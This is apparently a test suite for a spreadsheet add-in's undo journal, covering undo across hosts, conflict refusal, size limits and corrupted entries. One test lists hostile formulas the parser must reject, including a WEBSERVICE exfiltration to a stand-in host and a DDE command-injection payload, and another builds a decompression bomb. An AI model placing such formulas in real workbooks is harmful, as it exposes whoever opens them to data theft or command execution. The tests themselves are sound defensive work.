import fc from "fast-check";
import { deflateSync, strToU8 } from "fflate";
import { createExcelWorkbook } from "../../src/adapters/excel/excel-workbook";
import { createWorkbookFile } from "../../src/adapters/file/create-workbook-file";
import type { FileWorkbook } from "../../src/adapters/file/file-workbook";
import { openFile } from "../../src/adapters/file/open-file";
import { MemoryWorkbook } from "../../src/adapters/memory/memory-workbook";
import { createApp } from "../../src/app/create-app";
import type { App } from "../../src/app/jobs";
import { fromBase64, toBase64 } from "../../src/app/base64";
import { mostCharacters, mostEntries, parseJournal, serialiseJournal } from "../../src/app/journal";
import { createLocalEngine } from "../../src/app/local-engine";
import type { Workbook } from "../../src/app/workbook";
import { blankCell, type Cell } from "../../src/core/cell/cell";
import { cellOf } from "../../src/core/cell/snapshot";
import type { Edit, Patch } from "../../src/core/patch/edit";
import { openInExcel } from "../support/excel-host";
import { cell, draft, startingDrafts, workbookOfDrafts } from "./workbook-contract";

const figures = "Số liệu";
const ref = (row: number, column: number) => ({ sheet: figures, row, column });
const set = (row: number, column: number, before: Cell, after: Cell): Edit => ({
  kind: "set-cell",
  at: ref(row, column),
  before,
  after,
});
const patchOf = (title: string, ...edits: readonly Edit[]): Patch => ({
  title: { vi: title, en: title },
  because: null,
  edits,
});
const first = patchOf("Sửa C3", set(2, 2, cell(217), cell(218)));
const second = patchOf("Sửa C4", set(3, 2, cell(163), cell(164)));
const rowsIn = patchOf("Chèn dòng", { kind: "insert-rows", sheet: figures, at: 2, rows: [[]] });
const added = patchOf("Lập trang", {
  kind: "add-sheet",
  index: 2,
  sheet: draft("Tổng hợp", [[0, 0, cell("TỔNG HỢP", { style: { ...blankCell.style, fill: "#FFF2CC" } })]]),
});

interface Place {
  readonly workbook: Workbook;
  /** The same workbook as the next person to open it finds it. */
  reopen(): Workbook;
}

const hosts: readonly (readonly [string, () => Place])[] = [
  [
    "memory",
    () => {
      const workbook = new MemoryWorkbook(workbookOfDrafts(startingDrafts));
      return { workbook, reopen: () => workbook };
    },
  ],
  [
    "file",
    () => {
      const open = (bytes: Uint8Array): FileWorkbook => openFile(bytes, "mau.xlsx");
      const workbook = open(createWorkbookFile(startingDrafts));
      return { workbook, reopen: () => open(workbook.save()) };
    },
  ],
  [
    "Excel",
    () => {
      openInExcel(workbookOfDrafts(startingDrafts));
      return { workbook: createExcelWorkbook(), reopen: createExcelWorkbook };
    },
  ],
];

const appOver = (workbook: Workbook): App =>
  createApp({
    workbook,
    engine: createLocalEngine(),
    calculator: null,
    clock: { now: () => new Date(2026, 5, 12, 9, 30) },
    keepsJournal: true,
  });
const preview = (patch: Patch) => ({ patch, changes: [], sheets: [], resolves: [], raises: [], notes: [] });
/** As the pane does: the workbook is read before anything is written. */
async function done(app: App, ...patches: readonly Patch[]): Promise<void> {
  await app.inspect();
  for (const patch of patches) {
    expect(await app.apply(preview(patch))).toEqual({ kind: "applied" });
    await app.inspect();
  }
}
const valueAt = async (workbook: Workbook, row: number, column: number) =>
  cellOf(await workbook.read(), ref(row, column)).value;

describe.each(hosts)("B · the journal in %s", (_, open) => {
  it("B14 a change is taken back after reopening, the older one first", async () => {
    const { workbook, reopen } = open();
    await done(appOver(workbook), first, second, added);
    const again = reopen();
    const app = appOver(again);
    expect(app.history()).toEqual([]);
    expect(await app.loadHistory()).toMatchObject([
      { id: 1, title: first.title, at: "2026-06-12T09:30:00", isUndone: false, isEarlier: true },
      { id: 2, title: second.title },
      { id: 3, title: added.title },
    ]);
    const undoing = await app.previewUndo(1);
    expect(undoing?.changes).toMatchObject([{ at: ref(2, 2), before: "218", after: "217" }]);
    expect(await app.undo(1)).toEqual({ kind: "applied" });
    expect([await valueAt(again, 2, 2), await valueAt(again, 3, 2)]).toEqual([217, 164]);
    expect(await app.undo()).toEqual({ kind: "applied" });
    expect((await again.read()).sheets.map(({ name }) => name)).toEqual([figures, "Phụ lục 2"]);
    expect((await app.loadHistory()).map(({ isUndone }) => isUndone)).toEqual([true, false, true]);
    expect(await app.undo(1)).toBeNull();
    expect(await app.previewUndo(1)).toBeNull();
  });

  it("B14 a preview of taking back marks the change undone when it is applied", async () => {
    const { workbook, reopen } = open();
    await done(appOver(workbook), first);
    const app = appOver(reopen());
    const undoing = await app.previewUndo(1);
    if (undoing === null) throw new Error("there is a change to take back");
    expect(await app.apply(undoing)).toEqual({ kind: "applied" });
    expect(app.history()).toMatchObject([{ id: 1, isUndone: true }]);
  });

  it("B15 is refused with the cells that changed since, and nothing is written", async () => {
    const { workbook, reopen } = open();
    await done(appOver(workbook), first);
    const again = reopen();
    await again.apply(patchOf("Người khác", set(2, 2, cell(218), cell(300))));
    expect(await appOver(again).undo(1)).toMatchObject({
      kind: "refused",
      conflicts: [{ at: ref(2, 2), reason: "changed", expected: "218", found: "300" }],
    });
    expect(await valueAt(again, 2, 2)).toBe(300);
  });

  it("B15 is refused where another row stands in the place, even one with the same figure", async () => {
    const { workbook, reopen } = open();
    await done(appOver(workbook), first);
    const again = reopen();
    const other = set(2, 1, cell("Chứng thực"), cell("Đất đai"));
    await again.apply(patchOf("Người khác", other));
    expect(await appOver(again).undo(1)).toMatchObject({
      kind: "refused",
      conflicts: [{ at: ref(2, 2), reason: "changed", expected: "Chứng thực", found: "Đất đai" }],
    });
  });

  it("B15 a change before rows came in is refused until those are taken back", async () => {
    const { workbook } = open();
    const app = appOver(workbook);
    await done(app, first, rowsIn);
    expect(await app.undo(1)).toMatchObject({
      kind: "refused",
      conflicts: [{ at: { sheet: figures }, reason: "moved" }],
    });
    expect(await app.undo(2)).toEqual({ kind: "applied" });
    expect(await app.undo(1)).toEqual({ kind: "applied" });
    expect(await valueAt(workbook, 2, 2)).toBe(217);
  });

  it("B16 a journal of a later version is neither read nor written over", async () => {
    const { workbook, reopen } = open();
    const later = '{"version":2,"entries":[],"more":true}';
    await workbook.writeJournal(later);
    const app = appOver(workbook);
    await done(app, first);
    expect(app.history()).toHaveLength(1);
    expect(await reopen().readJournal()).toBe(later);
  });

  it("B18 clearing the traces takes settings and journal out and leaves the cells", async () => {
    const { workbook, reopen } = open();
    const app = appOver(workbook);
    await done(app, first);
    await app.changeSettings({ isSubmission: true });
    await app.clearTraces();
    expect(app.history()).toEqual([]);
    const again = reopen();
    expect([await again.readJournal(), await again.readSettings()]).toEqual([null, null]);
    expect(await valueAt(again, 2, 2)).toBe(218);
    expect((await appOver(again).settings()).isSubmission).toBe(false);
  });

  it("B17 whatever text stands in its place, changes are made and taken back", async () => {
    const texts = fc.oneof(
      fc.string(),
      fc.json(),
      fc.constantFrom(
        "null",
        "[]",
        '{"version":1,"entries":[null,{}]}',
        '{"version":1}',
        '{"version":"1","entries":[]}',
      ),
    );
    await fc.assert(
      fc.asyncProperty(texts, async (text) => {
        const { workbook } = open();
        await workbook.writeJournal(text);
        const app = appOver(workbook);
        expect(await app.loadHistory()).toEqual([]);
        await done(app, first);
        expect(await app.undo()).toEqual({ kind: "applied" });
      }),
      { numRuns: 15 },
    );
  });
});

describe("B · the journal as text", () => {
  const entry = (patch: Patch, at = "2026-06-12T09:30:00") => ({
    title: patch.title,
    at,
    patch,
    anchors: [],
    isUndone: false,
  });
  const read = (json: string) => {
    const journal = parseJournal(json);
    if (journal.kind === "newer") throw new Error("of this version");
    return journal.entries;
  };

  it("B14 every kind of edit comes back as it was", () => {
    const line = { style: "thin" as const, color: "#FF0000" };
    const look = { ...blankCell.style, borders: { top: line, right: null, bottom: line, left: null } };
    const patches = [
      patchOf("ô", set(2, 2, cell({ kind: "error", code: "#N/A" }), cell(true, { formula: "=C3", format: "0.00%" }))),
      patchOf("dáng", { kind: "set-format", at: ref(1, 1), before: blankCell.style, after: look }),
      rowsIn,
      patchOf("bỏ dòng", { kind: "delete-rows", sheet: figures, at: 2, rows: [[{ column: 1, cell: cell("x") }]] }),
      added,
      patchOf("bỏ trang", {
        kind: "remove-sheet",
        index: 1,
        sheet: draft("Cũ", [], {
          page: {
            orientation: "landscape",
            margins: { top: 20, right: 15, bottom: 20, left: 30 },
            repeatRows: null,
            isFitToWidth: true,
            hasPageNumbers: true,
          },
          charts: [
            {
              kind: "bar",
              title: "",
              categories: { sheet: "Cũ", top: 0, left: 0, bottom: 1, right: 0 },
              series: [{ name: ref(0, 0), values: { sheet: "Cũ", top: 0, left: 1, bottom: 1, right: 1 } }],
              anchor: { top: 0, left: 0, bottom: 1, right: 1 },
            },
          ],
          lists: [{ area: { top: 0, left: 0, bottom: 3, right: 0 }, choices: ["Đang thực hiện"] }],
        }),
      }),
    ];
    expect(read(serialiseJournal(patches.map((patch) => entry(patch)))).map(({ patch }) => patch)).toEqual(patches);
  });

  it("B16 keeps the newest within the number and the size allowed", () => {
    const many = Array.from({ length: mostEntries + 5 }, (_, index) => entry(patchOf(String(index), ...first.edits)));
    expect(read(serialiseJournal(many)).map(({ title }) => title.vi)).toEqual(
      many.slice(5).map(({ title }) => title.vi),
    );
    // Words that do not pack: a change of more characters than the journal may take.
    let seed = 7;
    const noise = () =>
      Array.from({ length: 20_000 }, () =>
        String.fromCharCode(0x4e00 + ((seed = (seed * 48_271) % 2_147_483_647) % 20_000)),
      ).join("");
    const large = Array.from({ length: 20 }, (_, index) =>
      entry(patchOf(String(index), set(index, 0, blankCell, cell(noise())))),
    );
    const text = serialiseJournal(large);
    expect(text.length).toBeLessThanOrEqual(mostCharacters + 100);
    const kept = read(text).map(({ title }) => title.vi);
    expect(kept.length).toBeGreaterThan(0);
    expect(kept.length).toBeLessThan(20);
    expect(kept.at(-1)).toBe("19");
  });

  it("B16 a damaged entry costs itself only", () => {
    const text = serialiseJournal([entry(first), entry(second)]);
    const data: { entries: { body: string }[] } = JSON.parse(text);
    const [damaged] = data.entries;
    if (damaged !== undefined) damaged.body = `${damaged.body.slice(0, 20)}!!!!${damaged.body.slice(24)}`;
    expect(read(JSON.stringify(data)).map(({ title }) => title.vi)).toEqual(["Sửa C4"]);
  });

  it.each([
    '=WEBSERVICE("http://x/"&A1)',
    "=1+HYPERLINK(A1)",
    "=cmd|'/c calc'!A0",
    "=RTD(A1)",
    "='\\\\may\\s\\[x.xlsx]S'!A1",
    "='https://may/[x.xlsx]S'!A1",
    "=[1]S!A1",
    '=DDE("a","b","c")',
    "=CUBEVALUE(A1)",
    `='a"b'!A1&WEBSERVICE('c"'!A1)`,
  ])("B16 an entry that would write %s is left out", (formula) => {
    const patch = patchOf("lạ", set(2, 2, cell(0, { formula }), cell(1)));
    expect(read(serialiseJournal([entry(patch), entry(second)]))).toHaveLength(1);
  });

  it.each(["='Quý 1:Quý 4'!B5+SUM('Tổng hợp (2)'!A1:A9)", '=IF(A1>0,"[đạt] | gọi http://","")'])(
    "B16 an entry that would write %s is kept",
    (formula) => {
      const patch = patchOf("thường", set(2, 2, cell(0, { formula }), cell(1)));
      expect(read(serialiseJournal([entry(patch), entry(second)]))).toHaveLength(2);
    },
  );

  it("B16 what would unpack to more than any change comes to is dropped, small as it is packed", () => {
    const { title, at, patch, anchors, isUndone } = entry(first);
    const journal = (blanks: number) => {
      const body = toBase64(deflateSync(strToU8(JSON.stringify({ patch, anchors }) + " ".repeat(blanks))));
      return JSON.stringify({ version: 1, entries: [{ title, at, isUndone, body }] });
    };
    expect(read(journal(1_000))).toHaveLength(1);
    expect(journal(60_000_000).length).toBeLessThan(200_000);
    expect(read(journal(60_000_000))).toEqual([]);
  });

  it("B17 base 64 comes back as it went, and nothing else is taken for it", () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 50 }), (bytes) => {
        const text = toBase64(bytes);
        expect(text).toBe(Buffer.from(bytes).toString("base64"));
        expect(fromBase64(text)).toEqual(bytes);
      }),
    );
    for (const text of ["a", "ab", "abc", "ab?=", "é==="]) expect(fromBase64(text)).toBeNull();
  });
});
